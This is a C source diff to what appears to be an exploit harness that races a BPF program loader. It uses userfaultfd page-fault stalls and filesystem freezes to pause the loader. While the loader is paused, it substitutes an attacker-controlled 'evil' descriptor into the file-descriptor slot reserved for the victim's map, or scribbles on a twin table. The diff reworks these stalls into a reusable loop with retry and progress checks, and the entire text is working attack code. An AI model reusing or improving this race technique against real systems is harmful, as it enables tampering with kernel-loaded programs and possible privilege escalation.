@@ -73,24 +73,51 @@ int stall_fault_before(struct race *r)
 }
 
 /* The address of the fault in which the loader waits, or 0. */
-static uint64_t fault_now(int ms)
+static uint64_t fault_now(void)
 {
 	struct pollfd p = {.fd = stall.uffd, .events = POLLIN};
 	struct uffd_msg msg;
 
-	if (poll(&p, 1, ms) != 1 || read(stall.uffd, &msg, sizeof(msg)) != sizeof(msg))
+	if (poll(&p, 1, 0) != 1 || read(stall.uffd, &msg, sizeof(msg)) != sizeof(msg))
 		return 0;
 	return msg.event == UFFD_EVENT_PAGEFAULT ?
 		       msg.arg.pagefault.address & ~(uint64_t)(PAGE - 1) : 0;
 }
 
-/* Wait for the loader to wait; 0 when it has ended. */
-static uint64_t fault_wait(struct race *r)
+static void take_page(void)
 {
+	madvise(stall.fault, LOG_SIZE, MADV_DONTNEED);
+}
+
+/* Is the loader past its BTF? One that shares no table with it sees that by the ids. */
+static bool begun(const struct race *r)
+{
+	int fd;
+
+	if (!(r->attempt->flags & FOREVER))
+		return number_open(r->base);
+	fd = map_by_id(r->last_id + 1);
+	close(fd);
+	return fd >= 0;
+}
+
+/*
+ * Wait for the loader to wait; 0 when it has ended. The page is taken away when its BTF is there:
+ * nothing is logged until the first program. Where the BTF's number is hidden, again and again.
+ */
+static uint64_t fault_wait(struct race *r, bool again)
+{
+	bool seen = !again;
 	uint64_t addr = 0;
 
-	while (r->running && !addr)
-		addr = fault_now(1);
+	while (r->running && !(addr = fault_now())) {
+		bool open = begun(r);
+
+		if (!seen && (open || rand() % 8 == 0))
+			take_page();
+		seen = seen || open;
+		race_step(r);
+	}
 	return addr;
 }
 
@@ -99,45 +126,37 @@ static void fault_release(uint64_t addr)
 	struct uffdio_zeropage zero = {.range = {addr, PAGE}};
 
 	ioctl(stall.uffd, UFFDIO_ZEROPAGE, &zero);
+	ioctl(stall.uffd, UFFDIO_WAKE, &zero.range);
 }
 
-/* Own map over a number that is not in the table yet: where it is reserved, that must fail. */
-static void poke(struct race *r)
+/**
+ * stall_each() - let the loader wait as often as it can be made to
+ * @r: the round
+ * @act: called while it waits; true: that was all
+ */
+void stall_each(struct race *r, bool (*act)(struct race *r))
+{
+	bool all = false;
+	uint64_t addr;
+
+	while ((addr = fault_wait(r, !all))) {
+		all = all || act(r);
+		fault_release(addr);
+	}
+}
+
+static bool act_number(struct race *r)
 {
 	int n = r->base + r->victim->rodata;
 
+	if (number_open(r->base + r->victim->maps)) {
+		dup2(r->evil[0], n);
+		return true;
+	}
+	/* Where the number is reserved and not in the table, this must fail. */
 	if (!number_open(n) && dup2(r->evil[0], n) == n)
 		close(n);
-}
-
-/*
- * Release it until it waits with all maps made and the data frozen, in a program's log. The page
- * is taken away when the BTF is there: nothing is logged until the first program.
- */
-static uint64_t fault_wait_for_maps(struct race *r)
-{
-	uint64_t addr;
-
-	while (r->running && !number_open(r->base)) {
-		addr = fault_now(0);
-		if (!addr)
-			continue;
-		poke(r);
-		fault_release(addr);
-	}
-	madvise(stall.fault, LOG_SIZE, MADV_DONTNEED);
-	while ((addr = fault_wait(r)) && !number_open(r->base + r->victim->maps)) {
-		poke(r);
-		fault_release(addr);
-		madvise((void *)addr, PAGE, MADV_DONTNEED);
-	}
-	return addr;
-}
-
-static void fault_release_all(struct race *r, uint64_t addr)
-{
-	for (; addr; addr = fault_wait(r))
-		fault_release(addr);
+	return false;
 }
 
 /**
@@ -146,11 +165,19 @@ static void fault_release_all(struct race *r, uint64_t addr)
  */
 void stall_fault_number(struct race *r)
 {
-	uint64_t addr = fault_wait_for_maps(r);
+	stall_each(r, act_number);
+}
 
-	if (addr)
-		dup2(r->evil[0], r->base + r->victim->rodata);
-	fault_release_all(r, addr);
+/* With a table of its own, this thread sees by the ids how far the loader is, or guesses. */
+static bool act_twin(struct race *r)
+{
+	int map = map_by_id(r->last_id + r->victim->maps);
+
+	if (map < 0 && ++r->stalls < 20)
+		return false;
+	close(map);
+	twice_scribble(r);
+	return true;
 }
 
 /**
@@ -159,18 +186,9 @@ void stall_fault_number(struct race *r)
  */
 void stall_fault_twin(struct race *r)
 {
-	uint64_t addr;
-	int map = -1;
-
-	/* With a table of its own, this thread sees by the ids how far the loader is. */
-	while ((addr = fault_wait(r)) && (map = map_by_id(r->last_id + r->victim->maps)) < 0) {
-		fault_release(addr);
-		madvise((void *)addr, PAGE, MADV_DONTNEED);
-	}
-	close(map);
-	if (addr)
-		twice_scribble(r);
-	fault_release_all(r, addr);
+	twice_leave(r);
+	r->stalls = 0;
+	stall_each(r, act_twin);
 }
 
 static int frozen_open(void)
@@ -226,6 +244,7 @@ void stall_freeze_number(struct race *r)
 	while (r->running && !number_open(r->base + r->victim->maps)) {
 		ioctl(stall.fs, FITHAW, 0);
 		ioctl(stall.fs, FIFREEZE, 0);
+		race_step(r);
 	}
 	if (r->running)
 		dup2(r->evil[0], r->base + r->victim->rodata);
